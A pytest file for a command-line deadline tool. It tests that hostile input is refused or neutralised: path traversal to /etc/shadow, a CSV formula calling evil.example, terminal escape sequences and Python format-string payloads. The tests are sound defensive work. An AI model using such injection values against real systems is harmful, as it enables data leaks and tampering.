"""Hostile and broken input (issue 12): nothing destroyed, nothing injected, never a traceback.

Each reproduction of the red-team pass is a test here: files that are not files, paths that
leave the plan's folder, -o targets that must not be replaced, formulas in CSV cells, control
characters in messages, format strings in rule text, and inputs that used to raise.
"""

import json
import os
import pathlib
import re
import stat

import pytest

from ofsted_timeline import reading
from ofsted_timeline.reading import FILE_LIMIT, MIB

from .conftest import run

EXAMPLES = pathlib.Path(__file__).parents[1] / "examples"
BARNET = ["deadlines", "--received", "2017-07-07", "--as-of", "2017-09-01"]
PLAN = "received = 2017-07-07\n"


def one_line_error(result) -> str:
    """The single ``oftl: error:`` line of a refused run (exit 2, nothing else printed)."""
    assert result.exit_code == 2, (result.exit_code, result.output, result.exception)
    lines = result.output.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("oftl: error: "), result.output
    return lines[0]


# Reading files: regular files only, under a size limit, never hanging.


@pytest.fixture
def fifo(tmp_path) -> pathlib.Path:
    path = tmp_path / "fifo"
    os.mkfifo(path)
    return path


def reader_args(kind: str, path: pathlib.Path) -> list[str]:
    return {
        "plan": ["check", str(path)],
        "rules": [*BARNET, "--rules", str(path)],
        "holidays": [*BARNET, "--holidays-file", str(path)],
        "check": ["holidays", "--check", str(path)],
        "batch": ["batch", str(path)],
    }[kind]


KINDS = ["plan", "rules", "holidays", "check", "batch"]


@pytest.mark.parametrize("kind", KINDS)
def test_a_fifo_is_refused_without_waiting_for_a_writer(kind, fifo):
    line = one_line_error(run(*reader_args(kind, fifo)))
    assert "is a FIFO (named pipe), not a file" in line


@pytest.mark.parametrize("kind", KINDS)
def test_a_device_is_refused_before_it_is_read(kind):
    line = one_line_error(run(*reader_args(kind, pathlib.Path("/dev/zero"))))
    assert line.endswith(
        "/dev/zero is a character device, not a file: give the path of the "
        + {
            "plan": "plan file",
            "rules": "rules file",
            "holidays": "holidays file",
            "check": "bank-holidays file",
            "batch": "batch file",
        }[kind]
    )


def test_a_file_over_the_limit_is_refused(tmp_path):
    big = tmp_path / "plan.toml"
    big.write_bytes(b"#" * (FILE_LIMIT + 1))
    line = one_line_error(run("check", str(big)))
    assert line.endswith(f"is larger than {FILE_LIMIT // MIB} MiB, the limit for a plan file: is it the right file?")


def test_a_batch_may_be_larger(tmp_path):
    rows = "authority,received\n" + "\n" * FILE_LIMIT + "Barnet,2017-07-07\n"  # blank lines are not rows
    (tmp_path / "big.csv").write_text(rows)
    result = run("batch", str(tmp_path / "big.csv"), "--as-of", "2017-09-01", "-f", "json")
    assert result.exit_code == 0, result.output


def test_an_unreadable_file_is_one_line(tmp_path):
    assert "No such file or directory" in one_line_error(run("check", str(tmp_path / "nope.toml")))


@pytest.mark.parametrize("rules", ["../../../../etc/shadow", "/etc/passwd", "../outside.toml", "link.toml"])
def test_a_plans_rules_stay_in_its_folder(tmp_path, rules):
    folder = tmp_path / "plans"
    folder.mkdir()
    (tmp_path / "outside.toml").write_text("")
    (folder / "link.toml").symlink_to(tmp_path / "outside.toml")
    plan = folder / "plan.toml"
    plan.write_text(f"{PLAN}rules = '{rules}'\n")
    line = one_line_error(run("check", str(plan), "--as-of", "2017-08-01"))
    assert f"rules file '{rules}' is outside the folder {folder}: keep it beside the plan or below it" in line


def test_a_plans_rules_may_sit_in_a_folder_below(tmp_path):
    (tmp_path / "local").mkdir()
    (tmp_path / "local" / "rules.toml").write_text((EXAMPLES / "local-rules.toml").read_text())
    plan = tmp_path / "plan.toml"
    plan.write_text(f"{PLAN}rules = 'local/rules.toml'\n")
    assert run("check", str(plan), "--as-of", "2017-08-01").exit_code == 0


@pytest.mark.parametrize(
    ("kind", "text"),
    [
        ("plan", PLAN),
        ("rules", (EXAMPLES / "local-rules.toml").read_text()),
        ("holidays", (pathlib.Path(__file__).parent / "data" / "bank-holidays-2023.json").read_text()),
    ],
)
def test_a_byte_order_mark_is_accepted(tmp_path, kind, text):
    path = tmp_path / "file"
    path.write_bytes(b"\xef\xbb\xbf" + text.encode())
    args = {"plan": ["check", str(path), "--as-of", "2017-08-01"], "rules": [*BARNET, "--rules", str(path)]}
    result = run(*args.get(kind, ["holidays", "--check", str(path)]))
    assert result.exit_code == 0, result.output


@pytest.mark.parametrize(
    ("name", "text", "message"),
    [
        ("plan.toml", "received = " + "[" * 100_000, "lists or tables nested too deeply to read: fix the syntax"),
        ("plan.toml", "received = " + "9" * 5000, "a number has more than 4300 digits: fix the syntax"),
        ("rules.toml", "x = " + "[" * 100_000, "lists or tables nested too deeply to read: fix the syntax"),
        ("h.json", "[" * 100_000, "nested too deeply to read: use gov.uk's bank-holidays.json format"),
        ("h.json", "9" * 5000, "a number has more than 4300 digits: use gov.uk's bank-holidays.json format"),
    ],
)
def test_deep_nesting_and_huge_numbers_are_one_line(tmp_path, name, text, message):
    path = tmp_path / name
    path.write_text(text)
    args = {"plan.toml": ["check", str(path)], "rules.toml": [*BARNET, "--rules", str(path)]}
    line = one_line_error(run(*args.get(name, ["holidays", "--check", str(path)])))
    assert line.endswith(message)


def test_a_file_without_read_permission_is_one_line(tmp_path, monkeypatch):
    plan = tmp_path / "plan.toml"
    plan.write_text(PLAN)
    plan.chmod(stat.S_IWUSR)
    if os.geteuid() == 0:  # root reads any file: refuse this one as the system would refuse a user
        real = os.open

        def refused(path, *args):
            if str(path) == str(plan):
                raise PermissionError(13, "Permission denied", str(path))
            return real(path, *args)

        monkeypatch.setattr(reading.os, "open", refused)
    line = one_line_error(run("check", str(plan)))
    assert line == f"oftl: error: cannot read plan file {plan}: Permission denied"


# -o: devices, FIFOs, links and read-only files are never replaced.


def test_an_empty_output_name_is_refused():
    assert (
        one_line_error(run(*BARNET, "-o", "")) == "oftl: error: -o is empty: give a file name, or '-' for the terminal"
    )


@pytest.mark.parametrize("exists", [True, False])
def test_a_trailing_slash_names_a_folder(tmp_path, exists):
    folder = tmp_path / "out"
    if exists:
        folder.mkdir()
    line = one_line_error(run(*BARNET, "-o", f"{folder}/"))
    assert line.endswith("it ends with '/', so it names a folder: give a file name after it")
    assert folder.exists() is exists  # no file named "out" written instead


def test_a_dangling_link_is_refused(tmp_path):
    link = tmp_path / "t.json"
    link.symlink_to(tmp_path / "elsewhere" / "x.json")
    line = one_line_error(run(*BARNET, "-o", str(link)))
    assert line.endswith(
        f"is a link to {tmp_path}/elsewhere/x.json, which does not exist: remove the link or choose another path"
    )
    link.unlink()
    link.symlink_to(link)  # a link to itself
    assert "which does not exist" in one_line_error(run(*BARNET, "-o", str(link)))
    assert os.listdir(tmp_path) == ["t.json"]


def test_a_read_only_file_is_refused_even_for_root(tmp_path):
    target = tmp_path / "t.json"
    target.write_text("keep me")
    target.chmod(0o444)
    line = one_line_error(run(*BARNET, "-o", str(target)))
    assert line.endswith("the file is read-only: make it writable or choose another path")
    assert target.read_text() == "keep me" and os.listdir(tmp_path) == ["t.json"]


@pytest.fixture
def devices(tmp_path):
    """A null device and a full one (like /dev/null and /dev/full) in a test's own folder, so
    that a regression replaces copies, never the machine's devices. Needs root."""
    if os.geteuid() != 0:
        pytest.skip("only root makes device files")
    null, full = tmp_path / "null", tmp_path / "full"
    os.mknod(null, stat.S_IFCHR | 0o666, os.makedev(1, 3))
    os.mknod(full, stat.S_IFCHR | 0o666, os.makedev(1, 7))
    return null, full


def test_a_device_is_written_to_never_replaced(devices):
    null, full = devices
    assert run(*BARNET, "-o", str(null)).exit_code == 0
    line = one_line_error(run(*BARNET, "-o", str(full)))
    assert line == f"oftl: error: cannot write {full}: No space left on device"
    assert stat.S_ISCHR(null.stat().st_mode) and stat.S_ISCHR(full.stat().st_mode)
    assert sorted(os.listdir(null.parent)) == ["full", "null"]  # no temporary file either


def test_a_link_to_a_device_writes_to_the_device(devices, tmp_path):
    null, _ = devices
    (tmp_path / "out.json").symlink_to(null)
    assert run(*BARNET, "-o", str(tmp_path / "out.json")).exit_code == 0
    assert stat.S_ISCHR(null.stat().st_mode) and (tmp_path / "out.json").is_symlink()


def test_dev_stdout_writes_to_the_pipe_it_leads_to():
    """/dev/stdout is a link to /proc/self/fd/1, which leads to a pipe here: written to, not refused."""
    import subprocess
    import sys

    command = [sys.executable, "-m", "ofsted_timeline", *BARNET, "-f", "json", "-o", "/dev/stdout"]
    result = subprocess.run(command, capture_output=True, text=True)
    assert (result.returncode, result.stderr) == (0, "") and result.stdout.startswith("{")


def test_a_fifo_is_written_to_for_its_reader(fifo):
    import threading

    received = []
    reader = threading.Thread(target=lambda: received.append(fifo.read_bytes()))
    reader.start()
    result = run(*BARNET, "-f", "json", "-o", str(fifo))
    reader.join(10)
    assert result.exit_code == 0, result.output
    assert received[0].startswith(b"{") and stat.S_ISFIFO(fifo.stat().st_mode)


def test_a_socket_is_refused(tmp_path):
    import socket

    path = tmp_path / "s"
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(str(path))
        line = one_line_error(run(*BARNET, "-o", str(path)))
    assert line.endswith("it is a socket, not a file: choose another path")


def test_a_folder_that_cannot_be_entered_is_one_line(tmp_path, monkeypatch):
    """``-o /root/x.json`` run by a user who cannot enter /root (simulated for root, who can)."""
    locked = tmp_path / "locked"
    locked.mkdir(mode=0)
    if os.geteuid() == 0:
        real = pathlib.Path.stat

        def refused(path, **options):
            if str(path).startswith(str(locked)):
                raise PermissionError(13, "Permission denied", str(path))
            return real(path, **options)

        monkeypatch.setattr(pathlib.Path, "stat", refused)
    line = one_line_error(run(*BARNET, "-o", str(locked / "x.json")))
    assert line == f"oftl: error: cannot write {locked}/x.json: Permission denied: choose another path"


def test_a_temporary_file_left_by_a_killed_run_is_swept(tmp_path):
    import fcntl

    target = tmp_path / "t.json"
    left = tmp_path / ".t.json.k1ll3d.oftl.tmp"
    left.write_bytes(b"half a batch")
    busy = tmp_path / ".t.json.wr1t1ng.oftl.tmp"  # another run, still writing: its lock is held
    busy.write_bytes(b"")
    other = tmp_path / ".other.json.abc.oftl.tmp"  # another target's: not ours to judge
    other.write_bytes(b"")
    with open(busy, "rb") as held:
        fcntl.flock(held, fcntl.LOCK_EX)
        assert run(*BARNET, "-f", "json", "-o", str(target)).exit_code == 0
    assert sorted(os.listdir(tmp_path)) == sorted([busy.name, other.name, "t.json"])


# CSV: no cell runs as a formula in a spreadsheet.

FORMULAS = ['=HYPERLINK("http://evil.example/?x","click")', "+cmd", "@SUM(A1)", "-2+3", "\tx", "=1+2"]


def csv_rows(text: str) -> list[dict[str, str]]:
    import csv
    import io

    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def test_an_authority_like_a_formula_is_text_in_csv():
    result = run(*BARNET, "--authority", FORMULAS[0], "--format", "csv")
    rows = csv_rows(result.stdout)
    assert {row["authority"] for row in rows} == {"'" + FORMULAS[0]}
    assert rows[0]["received"] == "2017-07-07" and rows[0]["earliest"][:2] == "20"  # dates unchanged


def test_batch_cells_like_formulas_are_text_in_csv(tmp_path):
    batch = tmp_path / "b.csv"
    lines = ["authority,received"] + [f'"{name}",2017-07-07' for name in FORMULAS[1:4]]
    batch.write_text("\n".join(lines) + "\n")
    result = run("batch", str(batch), "--as-of", "2017-09-01", "--format", "csv")
    assert result.exit_code == 0, result.output
    assert {row["authority"] for row in csv_rows(result.stdout)} == {"'+cmd", "'@SUM(A1)", "'-2+3"}


# Control characters: shown escaped wherever input is echoed, refused in rule and holiday text.

ESCAPES = "\x1b]0;pwned\x07\x1b[2J"
SHOWN = "\\x1b]0;pwned\\x07\\x1b[2J"


def no_raw_controls(text: str) -> None:
    assert "\x1b" not in text and "\x07" not in text and "\r" not in text, repr(text)


@pytest.mark.parametrize("fmt", ["table", "markdown", "json", "csv"])
def test_batch_cells_with_escapes_are_shown_escaped(tmp_path, fmt):
    batch = tmp_path / "esc.csv"
    batch.write_text(f'authority,received\nBarnet,"{ESCAPES}"\n"{ESCAPES}",2017-07-07\n')
    result = run("batch", str(batch), "--as-of", "2017-09-01", "-f", fmt)
    assert result.exit_code == 1, result.output
    if fmt != "json":  # JSON escapes them itself (\u001b), as data
        no_raw_controls(result.stdout)
    no_raw_controls(result.stderr)
    assert f"oftl: row error: row 2, received: '{SHOWN}' is not a date" in result.stderr


def test_a_line_break_in_a_cell_cannot_forge_a_line(tmp_path):
    batch = tmp_path / "forged.csv"
    batch.write_text('authority,received\nBarnet,"x\noftl: error: forged"\n')
    result = run("batch", str(batch), "--as-of", "2017-09-01")
    assert "oftl: error: forged" not in result.stderr.splitlines()
    assert "'x\\noftl: error: forged' is not a date" in result.stderr


def test_an_argument_with_escapes_is_shown_escaped():
    line = one_line_error(run(*BARNET[:1], "--received", ESCAPES))
    assert line.startswith(f"oftl: error: '{SHOWN}' is not a date")


def test_a_file_name_with_escapes_is_shown_escaped(tmp_path):
    plan = tmp_path / f"plan{ESCAPES}.toml"
    line = one_line_error(run("check", str(plan)))
    no_raw_controls(line)
    plan.write_text(PLAN)
    result = run("check", str(plan), "--as-of", "2017-08-01")
    assert result.exit_code == 0 and f"plan{SHOWN}.toml · report received" in result.stdout
    no_raw_controls(result.stdout)


def test_click_errors_are_shown_escaped():
    """Usage errors come from Click, caught in main(): run the real console script."""
    import subprocess
    import sys

    result = subprocess.run(
        [sys.executable, "-m", "ofsted_timeline", "deadlines", "--received", "2017-07-07", ESCAPES],
        capture_output=True,
        text=True,
    )
    assert result.returncode == 2 and f"({SHOWN})" in result.stderr
    no_raw_controls(result.stderr)


def test_a_table_shows_control_characters_escaped():
    import io

    from rich.console import Console
    from rich.text import Text

    from ofsted_timeline.render.as_table import Escaped

    console = Console(file=io.StringIO(), width=60, color_system=None)
    console.print(Escaped(Text(f"Barnet {ESCAPES}\nsecond line")))
    assert console.file.getvalue() == "Barnet \\x1b]0;pwned\\x1b[2J\nsecond line\n"  # rich drops BEL itself


def test_a_table_shows_square_brackets_and_colons_as_given(tmp_path):
    """Names from a batch and titles from a rule file are text, not rich markup: ``[/x]`` once
    stopped the batch's table with a traceback, ``[bold]`` vanished and ``:smile:`` became a smiley."""
    batch = tmp_path / "b.csv"
    batch.write_text("authority,received\nBarnet [/x],2017-07-07\nHull [bold]x :smile:,2017-07-07\n")
    result = run("batch", str(batch), "--as-of", "2017-09-01")
    assert result.exit_code == 0 and "Traceback" not in result.output
    rules = tmp_path / "rules.toml"
    rules.write_text(RULE.format(title="Board [b]review[/b] :smile:").replace("Governance", "Terms [i]of[/i]"))
    shown = run("rules", "--rules", str(rules), "--framework", "sif-2017")
    assert shown.exit_code == 0, shown.output
    smiley = "\N{SMILING FACE WITH OPEN MOUTH AND SMILING EYES}"  # what rich makes of :smile:
    for table, given in ((result.stdout, ("[/x]", "[bold]x")), (shown.stdout, ("[b]review[/b]", "[i]of[/i]"))):
        assert all(text in table for text in given) and ":smile:" in table and smiley not in table, table


def test_every_character_a_table_escapes_is_one_python_calls_unprintable():
    """The table passes printable text on unsearched (as_table.Escaped): so every character
    ``visible`` escapes must be one ``str.isprintable`` refuses, in every plane."""
    from ofsted_timeline.escape import CONTROL

    escaped = re.findall(CONTROL, "".join(map(chr, range(0x110000))))
    assert len(escaped) == 32 + 33 + 1 + 2 + 2 + 5 + 4 + 2048 + 32 + 2 * 17
    assert not any(character.isprintable() for character in escaped)
    assert "Brent – Ealing · Ynys Môn (§ 1.19)".isprintable()


RULE = """[[rules]]
id = "board"
title = "{title}"
short = "the board"
kind = "expected"
date = {{ anchor = "wsoa", offset = -5, unit = "working days" }}
source = "Governance timetable"
"""


@pytest.mark.parametrize(("text", "shown"), [("\\u001b[2J", "\\x1b"), ("a\\nb", "\\n"), ("\\u202eevil", "\\u202e")])
def test_rule_text_with_control_characters_is_refused(tmp_path, text, shown):
    rules = tmp_path / "rules.toml"
    rules.write_text(RULE.format(title=text))
    line = one_line_error(run(*BARNET, "--rules", str(rules)))
    assert line.endswith(f"rule 'board': title has a control character ({shown}): write it as plain text on one line")


def test_a_holiday_title_with_control_characters_is_refused(tmp_path):
    holidays = tmp_path / "h.json"
    holidays.write_text('{"england-and-wales": {"events": [{"title": "\\u001b[2J", "date": "2017-07-10"}]}}')
    line = one_line_error(run(*BARNET, "--holidays-file", str(holidays)))
    assert line.endswith("h.json: event 1 has a control character (\\x1b) in its title")


# Rule files: only {n} in braces, no unknown keys or tables, offsets within reach.


def rules_error(tmp_path, text: str) -> str:
    rules = tmp_path / "rules.toml"
    rules.write_text(text)
    return one_line_error(run(*BARNET, "--rules", str(rules)))


@pytest.mark.parametrize("title", ["Board {chair}", "{n.__class__.__mro__}", "{n:>50000000}", "{{n}}", "n}"])
@pytest.mark.parametrize("field", ["title", "short"])
def test_a_brace_other_than_n_is_refused(tmp_path, title, field):
    text = RULE.format(title="Board") if field == "short" else RULE.format(title=title)
    text = text.replace('short = "the board"', f'short = "{title}"') if field == "short" else text
    line = rules_error(tmp_path, text)
    assert line.endswith(f"rule 'board': {field} has a brace other than {{n}}, the occurrence number: remove it")


def test_a_series_id_with_another_brace_is_refused(tmp_path):
    text = RULE.format(title="Board {n}") + 'repeat = { id = "board{n}{x}", first = 1, times = 2 }\n'
    assert rules_error(tmp_path, text).endswith(
        "rule 'board': repeat.id has a brace other than {n}, the occurrence number: remove it"
    )


def test_n_is_still_the_occurrence_number(tmp_path):
    rules = tmp_path / "rules.toml"
    rules.write_text((EXAMPLES / "local-rules.toml").read_text())
    result = run(*BARNET, "--rules", str(rules), "--visit", "2017-11-14", "--visit", "2018-02-06", "-f", "json")
    titles = {m["title"] for m in __import__("json").loads(result.stdout)["milestones"]}
    assert "Improvement board before monitoring visit 2" in titles


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (
            lambda t: "[dates]\nwsoa = 2017-10-13\n" + t,
            "rules.toml: dates is not a known table: use rules, sources",
        ),
        (lambda t: 'include = [{ rules = "sif-2017" }]\n' + t, "rules.toml: include is not a known table"),
        (lambda t: 'id = "mine"\n' + t, "rules.toml: id is not a known key: use rules, sources"),
        (lambda t: t.replace("source =", "sorce ="), "rule 'board': sorce is not a known key: use id, title"),
        (
            lambda t: t.replace("offset = -5", "ofset = -5"),
            "rule 'board': date.ofset is not a known key: use anchor, offset",
        ),
        (
            lambda t: t + "repeat = { id = 'b{n}', first = 1, times = 2, every = 3 }\n",
            "repeat.every is not a known key",
        ),
    ],
)
def test_unknown_keys_and_tables_in_a_rules_file_are_refused(tmp_path, change, message):
    assert message in rules_error(tmp_path, change(RULE.format(title="Board")))


@pytest.mark.parametrize(
    ("offset", "unit", "most"),
    [("99999999999999999999", "weeks", "5200"), ("100000", "years", "100"), ("-100000", "years", "100")],
)
def test_an_offset_beyond_a_century_is_refused(tmp_path, offset, unit, most):
    text = RULE.format(title="Board").replace(
        'offset = -5, unit = "working days"', f'offset = {offset}, unit = "{unit}"'
    )
    line = rules_error(tmp_path, text)
    assert line.endswith(f"rule 'board': date.offset is {offset} {unit}: give at most {most} (100 years)")


@pytest.mark.parametrize("key", ["mv³", "mv²", "mv١"])
def test_non_ascii_digits_in_a_milestone_id_are_one_line(tmp_path, key):
    plan = tmp_path / "plan.toml"
    plan.write_text(f'{PLAN}[dates]\n"{key}" = 2017-11-14\n')
    assert f"no milestone '{key}'" in one_line_error(run("check", str(plan), "--as-of", "2017-08-01"))
    batch = tmp_path / "b.csv"
    batch.write_text(f"authority,received,{key}\nBarnet,2017-07-07,2017-11-14\n")
    assert f"unknown column '{key}'" in one_line_error(run("batch", str(batch)))
    anchored = RULE.format(title="Board").replace('anchor = "wsoa"', f'anchor = "{key}"')
    assert f"is anchored on '{key}'" in rules_error(tmp_path, anchored)


# Batch: an unclosed quote, the summary of errors, workers of a killed run.


def test_an_unclosed_quote_names_the_row_where_it_opened(tmp_path):
    batch = tmp_path / "b.csv"
    batch.write_text('authority,received\nBarnet,2017-07-07\n"Brent,2017-07-07\nEaling,2017-07-07\n\n')
    line = one_line_error(run("batch", str(batch)))
    assert line.endswith(
        "b.csv: row 3 (line 3) opens a quote that is never closed, so the rest of the file, "
        "to line 5, was read as one cell: close the quote"
    )


def test_a_quoted_line_break_is_still_a_cell(tmp_path):
    batch = tmp_path / "b.csv"
    batch.write_text('authority,received\n"Brent\nand Harrow",2017-07-07\n"Ealing",2017-07-07\n')
    result = run("batch", str(batch), "--as-of", "2017-09-01", "-f", "json")
    assert result.exit_code == 1  # the line break refused as an authority name, row by row
    assert "row 2, authority: the authority name 'Brent\\nand Harrow' has a line break" in result.stderr
    assert len(__import__("json").loads(result.stdout)["timelines"]) == 1


@pytest.mark.parametrize(
    ("fmt", "where"),
    [
        ("json", "listed in the JSON output"),
        ("markdown", "listed in the Markdown output"),
        ("table", "listed in the table"),
        ("csv", "not shown: --format json lists every one"),
    ],
)
def test_the_summary_says_where_the_other_errors_are(tmp_path, fmt, where):
    batch = tmp_path / "b.csv"
    batch.write_text("authority,received\n" + "Barnet,31/02/2017\n" * 25)
    result = run("batch", str(batch), "-f", fmt)
    assert f"oftl: 25 of 25 rows not computed (and 5 more errors, {where}); 0 timelines written." in result.stderr


def process_state(pid: int) -> tuple[str, int] | None:
    """A process's state letter and parent, from /proc; None once it has gone."""
    try:
        state, parent = pathlib.Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[:2]
    except (OSError, ValueError):
        return None
    return state, int(parent)


def children(pid: int) -> set[int]:
    numbers = (int(entry.name) for entry in pathlib.Path("/proc").iterdir() if entry.name.isdigit())
    return {child for child in numbers if (process_state(child) or ("", 0))[1] == pid}


def running(pids: set[int]) -> set[int]:
    return {pid for pid in pids if (process_state(pid) or ("Z", 0))[0] != "Z"}  # a zombie has stopped


def test_workers_of_a_killed_batch_stop_and_its_temporary_file_is_swept(tmp_path):
    """kill -9 of a large batch left two workers computing for 90 s and a 341 MB temporary file."""
    import signal
    import subprocess
    import sys
    import time

    from ofsted_timeline.cli.pool import worker_count

    if not pathlib.Path("/proc/self/stat").exists() or worker_count() < 2:
        pytest.skip("needs /proc and two cores for worker processes")
    batch = tmp_path / "big.csv"
    batch.write_text("authority,received\n" + "".join(f"A{n},2017-07-07\n" for n in range(40_000)))
    target = tmp_path / "out.json"
    command = [sys.executable, "-m", "ofsted_timeline", "batch", str(batch), "--as-of", "2017-09-01", "-o", str(target)]
    process = subprocess.Popen(command, stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + 60
    while not (workers := children(process.pid)) and time.monotonic() < deadline:
        time.sleep(0.05)
    while not list(tmp_path.glob(".out.json.*.oftl.tmp")) and time.monotonic() < deadline:
        time.sleep(0.05)
    process.send_signal(signal.SIGKILL)
    process.wait()
    assert workers
    stopped = time.monotonic() + 5
    while running(workers) and time.monotonic() < stopped:
        time.sleep(0.05)
    assert not running(workers), "workers outlived their parent"
    assert list(tmp_path.glob(".out.json.*.oftl.tmp"))  # what kill -9 leaves
    small = tmp_path / "small.csv"
    small.write_text("authority,received\nBarnet,2017-07-07\n")
    assert run("batch", str(small), "--as-of", "2017-09-01", "-o", str(target)).exit_code == 0
    assert sorted(path.name for path in tmp_path.iterdir()) == ["big.csv", "out.json", "small.csv"]


# Tracebacks that are now one line, exit 2.


@pytest.mark.parametrize("year", ["0", "-5", "999999999999999999999999", "1", "3000"])
def test_a_year_outside_the_calendar_is_one_line(year):
    line = one_line_error(run("holidays", "--", year))
    assert line == f"oftl: error: no bank holidays for {year}: oftl's calendar covers 1972–2099"


def test_a_date_in_year_1_names_the_calendars_real_range():
    line = one_line_error(run("deadlines", "--received", "0001-01-05"))
    assert "which covers 1972–" in line  # it said 2000–2040: year 0, falsy, fell back to the bundled data


def chained(count: int, unit: str, offset: int) -> str:
    """``count`` rules, each ``offset`` ``unit`` after the one before: together past the year 9999.
    The last is written first, so that all are counted before any status is."""
    rules = []
    for number in reversed(range(count)):
        anchor = "receipt" if number == 0 else f"r{number - 1}"
        rules.append(
            f'[[rules]]\nid = "r{number}"\ntitle = "R"\nshort = "r"\nkind = "event"\nsource = "S"\n'
            f'date = {{ anchor = "{anchor}", offset = {offset}, unit = "{unit}" }}\n'
        )
    return "\n".join(rules)


@pytest.mark.parametrize(
    ("unit", "offset", "message"),
    [
        ("years", 100, "+1200 months from Sat 7 Jul 9917 is outside the years 1–9999 that dates have"),
        ("months", 1200, "+1200 months from Sat 7 Jul 9917 is outside the years 1–9999 that dates have"),
        ("weeks", 5200, "+36400 days from Fri 20 Apr 9990 is outside the years 1–9999 that dates have"),
    ],
)
def test_offsets_that_add_up_past_the_year_9999_are_one_line(tmp_path, unit, offset, message):
    rules = tmp_path / "rules.toml"
    rules.write_text(chained(90, unit, offset))
    line = one_line_error(run(*BARNET, "--rules", str(rules)))
    assert message in line


@pytest.mark.parametrize("option", ["--as-of", "--apv", "--wsoa-submitted", "--reinspection", "--visit"])
def test_an_empty_date_is_an_error_not_a_missing_one(option):
    line = one_line_error(run(*BARNET[:3], option, ""))
    named = option in ("--apv", "--wsoa-submitted", "--reinspection")  # a milestone's date names its option
    assert line.startswith(f"oftl: error: {option + ': ' if named else ''}'' is not a date")


def test_an_empty_as_of_is_an_error_in_a_batch_too():
    assert "'' is not a date" in one_line_error(run("batch", str(EXAMPLES / "authorities.csv"), "--as-of", ""))


@pytest.mark.parametrize("text", ["２０１７-07-07", "٢٠١٧-٠٧-٠٧", "7/7/２０１７", "７ July 2017"])
def test_non_ascii_digits_are_not_a_date(tmp_path, text):
    assert f"'{text}' is not a date" in one_line_error(run("deadlines", "--received", text))
    plan = tmp_path / "plan.toml"
    plan.write_text(f"received = '{text}'\n")
    assert f"'{text}' is not a date" in one_line_error(run("check", str(plan)))


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("Mon 7 July 2017", "'Mon 7 July 2017': 7 Jul 2017 is a Friday, not a Monday: check the day and the date"),
        ("Sunday, 16 October 2017", "16 Oct 2017 is a Monday, not a Sunday"),
        ("Monkey 7 July 2017", "'Monkey 7 July 2017' is not a date"),
    ],
)
def test_a_weekday_must_be_the_dates_own(text, message):
    assert message in one_line_error(run("deadlines", "--received", text))


@pytest.mark.parametrize("text", ["Fri 7 July 2017", "Friday, 7 July 2017", "fri 7th jul 2017", "Thurs 13 July 2017"])
def test_the_right_weekday_is_still_accepted(text):
    from ofsted_timeline.dates import parse_date

    assert parse_date(text).isoformat() in ("2017-07-07", "2017-07-13")


def test_one_line_for_each_class():
    from ofsted_timeline.errors import InputError, one_line

    assert one_line(InputError("bad")) == "bad"
    assert one_line(PermissionError(13, "Permission denied", "/root/x.json")) == "/root/x.json: Permission denied"
    assert "nested too deeply" in one_line(RecursionError())
    assert "too large" in one_line(MemoryError())
    assert one_line(OverflowError("date value out of range")).startswith(
        "a number or date in the input is out of range"
    )


def test_ctrl_c_says_interrupted_and_exits_130(tmp_path):
    import signal
    import subprocess
    import sys
    import time

    batch = tmp_path / "big.csv"
    batch.write_text("authority,received\n" + "".join(f"A{n},2017-07-07\n" for n in range(40_000)))
    command = [
        sys.executable,
        "-m",
        "ofsted_timeline",
        "batch",
        str(batch),
        "--as-of",
        "2017-09-01",
        "-o",
        str(tmp_path / "o.json"),
    ]
    process = subprocess.Popen(command, stderr=subprocess.PIPE, text=True, start_new_session=True)
    deadline = time.monotonic() + 60
    while not list(tmp_path.glob(".o.json.*")) and time.monotonic() < deadline:  # computing by now
        time.sleep(0.05)
    os.killpg(process.pid, signal.SIGINT)  # as a terminal's Ctrl-C: the whole process group
    try:
        _, stderr = process.communicate(timeout=90)  # a loaded CI machine finishes the chunks under way
    finally:  # a hung run must not outlive the test
        if process.poll() is None:
            os.killpg(process.pid, signal.SIGKILL)
    assert (process.returncode, stderr) == (130, "oftl: interrupted\n")
    assert sorted(path.name for path in tmp_path.iterdir()) == ["big.csv"]  # no output, no temporary file


def test_one_judgement_given_by_hand_and_found_in_the_history_counts_once():
    """Issue 21, 19: 26 Oct 2018 given by hand and 29 Oct 2018 from the history are Bradford's
    one 2018 judgement; its 2023 timeline has 2 inadequate judgements within 5 years, not 3."""
    result = run(
        "deadlines", "--received", "2023-01-31", "--authority", "Bradford", "--previous-inadequate", "2018-10-26",
        "--as-of", "2026-11-26", "--format", "json",
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    said = json.loads(result.stdout)["persistent_failure"]
    assert "2 inadequate judgements within 5 years" in said and "3 inadequate" not in said
    assert "are one judgement (within 10 days)" in said


@pytest.mark.parametrize(
    ("name", "matched"),
    [
        ("County Durham", "Durham"),
        ("County of Herefordshire", "Herefordshire"),
        ("City of London", "London Corporation"),
    ],
)
def test_official_names_match_and_london_is_not_the_city(name, matched):
    # Issue 21, defect 20: official names matched nothing; "London" silently matched the City.
    assert run("history", "--authority", name).stdout.startswith(f"{matched} (URN ")
    result = run(*BARNET, "--authority", "London")
    assert result.exit_code == 0 and "no authority 'London' in the inspection history" in result.stderr
